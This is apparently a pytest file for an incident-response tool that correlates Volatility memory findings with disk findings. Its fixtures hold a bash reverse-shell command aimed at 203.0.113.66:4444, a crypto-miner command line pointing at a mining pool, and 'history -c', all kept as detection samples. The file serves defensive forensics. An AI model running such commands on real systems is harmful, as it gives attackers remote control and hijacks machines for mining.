"""Memory findings from Volatility 3's JSON rows (the columns its renderer writes for each plugin),
correlated with disk findings; and what the runner writes when there is no memory to read."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from examiner.findings import Finding
from examiner.memory_findings import MemoryFinding, find_in_memory, is_private_address
from examiner.runner import examine_case
from examiner.yarascan import SHIPPED_RULES, compile_rules

MINER = "/tmp/.X11-unix/kworkerd"


def _psaux(pid: int, ppid: int, comm: str, args: str) -> dict[str, Any]:
    return {"PID": pid, "PPID": ppid, "COMM": comm, "ARGS": args, "__children": []}


def _sock(pid: int, name: str, src: str, sport: int, dst: str, dport: int, state: str, **kw: Any) -> dict[str, Any]:
    return {
        "NetNS": 4026531840,
        "Process Name": name,
        "PID": pid,
        "TID": kw.get("tid", pid),
        "FD": 3,
        "Sock Offset": 150277730903040,
        "Family": kw.get("family", "AF_INET"),
        "Type": "STREAM",
        "Proto": "TCP",
        "Source Addr": src,
        "Source Port": str(sport),
        "Destination Addr": dst,
        "Destination Port": str(dport),
        "State": state,
        "Filter": None,
        "__children": [],
    }


ROWS: dict[str, list[dict[str, Any]]] = {
    "linux.psaux": [
        _psaux(2, 0, "kthreadd", "[kthreadd]"),
        _psaux(7, 2, "kworker/0:0-eve", "[kworker/0:0-eve]"),
        _psaux(90, 1, "kworkerd", f"{MINER} --donate-level=0 -o stratum+tcp://pool.example.net:3333"),
        _psaux(94, 1, "bash", "bash -i"),
        _psaux(120, 1, "a-very-long-nam", "./a-very-long-name-indeed"),
    ],
    "linux.malware.malfind": [
        {
            "PID": 90,
            "Process": "kworkerd",
            "Start": 0x7F5E7C166000,
            "End": 0x7F5E7C168000,
            "Path": "Anonymous Mapping",
            "Protection": "rwx",
            "Hexdump": "f3 0f 1e fa 55 48 89 e5 31 c0 90 90",
            "Disasm": "",
            "File output": "Disabled",
            "__children": [],
        },
        {
            "PID": 94,
            "Process": "bash",
            "Start": 0x400000,
            "End": 0x401000,
            "Path": "/usr/bin/bash",
            "Protection": "r-x",
            "Hexdump": "",
            "Disasm": "",
            "File output": "Disabled",
            "__children": [],
        },
    ],
    "linux.sockstat": [
        _sock(90, "kworkerd", "0.0.0.0", 8333, "0.0.0.0", 0, "LISTEN"),
        _sock(90, "kworkerd", "10.0.2.15", 50536, "203.0.113.66", 3333, "ESTABLISHED"),
        _sock(90, "kworkerd", "10.0.2.15", 50536, "203.0.113.66", 3333, "ESTABLISHED", tid=91),
        _sock(94, "bash", "10.0.2.15", 41000, "203.0.113.66", 4444, "ESTABLISHED"),
        _sock(300, "sshd", "10.0.2.15", 22, "10.0.7.9", 51515, "ESTABLISHED"),
        _sock(301, "curl", "127.0.0.1", 40000, "127.0.0.1", 8080, "ESTABLISHED"),
        _sock(302, "systemd", "/run/systemd/notify", 0, "", 0, "UNCONNECTED", family="AF_UNIX"),
    ],
    "linux.bash": [
        {"PID": 94, "Process": "bash", "CommandTime": "2026-01-01T00:00:00+00:00", "Command": "ls -la"},
        {
            "PID": 94,
            "Process": "bash",
            "CommandTime": "2026-01-01T00:02:00+00:00",
            "Command": "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
        },
        {"PID": 94, "Process": "bash", "CommandTime": "2026-01-01T00:03:00+00:00", "Command": "history -c"},
    ],
}
DISK = [
    Finding("critical", "setuid", "/vol-0abc/p1", MINER, "SUID file created during the incident window", None),
    Finding("low", "temp-dir", "/vol-0abc/p1", "/tmp/a-very-long-name-indeed", "file in /tmp", None),
]


@pytest.fixture(scope="module")
def found() -> list[MemoryFinding]:
    rules, _ = compile_rules([SHIPPED_RULES])
    return find_in_memory(ROWS, DISK, yara_rules=rules)


def _of(found: list[MemoryFinding], category: str) -> list[MemoryFinding]:
    return [f for f in found if f.category == category]


def test_a_process_running_a_disk_findings_file_is_tied_to_it(found: list[MemoryFinding]) -> None:
    tied = {f.pid: f for f in _of(found, "process-from-disk-finding")}
    assert set(tied) == {90, 120}
    assert tied[90].severity == "critical" and tied[90].disk_paths == [f"/vol-0abc/p1{MINER}"]
    assert "executable" in tied[90].reason
    # comm holds only the first 15 bytes of the name: the match is on those.
    assert tied[120].process == "a-very-long-nam" and tied[120].severity == "high"


def test_a_user_process_named_like_a_kernel_thread_is_found_and_real_ones_are_not(found: list[MemoryFinding]) -> None:
    assert [(f.pid, f.process) for f in _of(found, "kernel-thread-impostor")] == [(90, "kworkerd")]


def test_only_writable_executable_mappings_are_found(found: list[MemoryFinding]) -> None:
    [rwx] = _of(found, "rwx-mapping")
    assert (rwx.pid, rwx.process) == (90, "kworkerd")
    assert rwx.reason.startswith("anonymous memory mapping that is writable and executable")
    assert rwx.evidence.startswith("0x7f5e7c166000-0x7f5e7c168000 f3 0f 1e fa")


def test_listeners_and_connections_outside_private_space_are_found_once(found: list[MemoryFinding]) -> None:
    assert [(f.pid, f.evidence) for f in _of(found, "listening-socket")] == [(90, "TCP 0.0.0.0:8333 LISTEN")]
    external = sorted((f.pid, f.evidence) for f in _of(found, "external-connection"))
    assert external == [
        (90, "TCP 10.0.2.15:50536 -> 203.0.113.66:3333 ESTABLISHED"),
        (94, "TCP 10.0.2.15:41000 -> 203.0.113.66:4444 ESTABLISHED"),
    ]


def test_history_lines_matching_the_rules_are_found(found: list[MemoryFinding]) -> None:
    history = {f.evidence: f for f in _of(found, "shell-history")}
    assert set(history) == {"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "history -c"}
    assert "YARA rule reverse_shell_command matched" in history["bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"].reason
    assert history["history -c"].severity == "medium"


def test_every_finding_of_a_process_tied_to_the_disk_carries_its_path(found: list[MemoryFinding]) -> None:
    assert all(f.disk_paths == [f"/vol-0abc/p1{MINER}"] for f in found if f.pid == 90)
    assert all(not f.disk_paths for f in found if f.pid == 94)


def test_findings_are_ordered_most_severe_first_and_round_trip(found: list[MemoryFinding]) -> None:
    ranks = ["critical", "high", "medium", "low", "info"]
    assert [ranks.index(f.severity) for f in found] == sorted(ranks.index(f.severity) for f in found)
    assert [MemoryFinding.from_dict(json.loads(json.dumps(f.to_dict()))) for f in found] == found


@pytest.mark.parametrize(
    ("address", "private"),
    [
        ("10.1.2.3", True),
        ("172.31.0.1", True),
        ("192.168.1.1", True),
        ("127.0.0.1", True),
        ("::1", True),
        ("fe80::1%eth0", True),
        ("::ffff:10.0.0.1", True),
        ("203.0.113.66", False),
        ("8.8.8.8", False),
        ("2001:4860:4860::8888", False),
        ("::ffff:203.0.113.66", False),
    ],
)
def test_private_means_rfc1918_loopback_link_local_and_ula(address: str, private: bool) -> None:
    assert is_private_address(address) is private


def test_without_memory_the_runner_writes_empty_memory_findings(tmp_path: Path) -> None:
    result = examine_case([], None, tmp_path, incident_window=None)
    written = json.loads((tmp_path / "analysis" / "memory-findings.json").read_text())
    assert written["findings"] == [] and written["memory"]["status"] == "not analysed"
    assert result.memory_findings == []


def test_the_report_shows_memory_findings_in_html_markdown_and_json(found: list[MemoryFinding]) -> None:
    from examiner.report import CaseReportInput, render_report

    case = CaseReportInput(
        case_id="case-1",
        instance_id="i-0abc",
        account="111111111111",
        region="eu-west-1",
        trigger="guardduty",
        action="contain",
        memory_findings=found,
    )
    rendered = render_report(case)
    # The report marks where long ids may break (<wbr>); the text itself is what is asserted.
    html, markdown = rendered["report.html"].decode().replace("<wbr>", ""), rendered["report.md"].decode()
    assert "<h3>Memory findings</h3>" in html and "### Memory findings" in markdown
    assert "bash -i &gt;&amp; /dev/tcp/203.0.113.66/4444 0&gt;&amp;1" in html
    assert f"/vol-0abc/p1{MINER}" in html
    assert json.loads(rendered["report.json"])["memory_findings"] == [f.to_dict() for f in found]
